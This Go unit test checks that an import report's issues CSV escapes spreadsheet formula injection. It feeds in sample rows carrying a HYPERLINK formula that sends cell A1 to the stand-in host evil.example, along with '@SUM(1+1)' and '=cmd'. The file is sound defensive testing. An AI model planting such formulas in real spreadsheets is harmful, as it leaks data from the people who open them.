package transfer

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestImportReportEscapesFormulas imports rows whose rejected and dropped
// values are formulas and checks that the issues CSV, which the person
// fixing the sheet opens in Excel, carries them escaped as the customer
// export does: no cell starts with = + - or @.
func TestImportReportEscapesFormulas(t *testing.T) {
	ctx := testContext(t)
	db := openStore(t)
	seedStaff(t, db)
	hyperlink := `=HYPERLINK("http://evil.example/?x="&A1,"点我")`
	sheet := "姓名,手机,邮箱\n" +
		"张三,13900139000," + csvQuote(hyperlink) + "\n" +
		"李四,13800138000,@SUM(1+1)\n" +
		"王五,=cmd,\n"
	tb, err := ReadTable("f.csv", strings.NewReader(sheet), "")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := Import(ctx, db, tb, ImportOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Issues) < 3 {
		t.Fatalf("issues %+v, want the phone, the email and the second phone", rep.Issues)
	}
	var buf bytes.Buffer
	if err := rep.WriteIssuesCSV(&buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), utf8BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("report cell %q would run as a formula", cell)
			}
			seen[unescapeCell(cell)] = true
		}
	}
	for _, v := range []string{hyperlink, "@SUM(1+1)", "=cmd"} {
		if !seen[v] {
			t.Errorf("the report lost %q (cells %q)", v, recs)
		}
	}
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
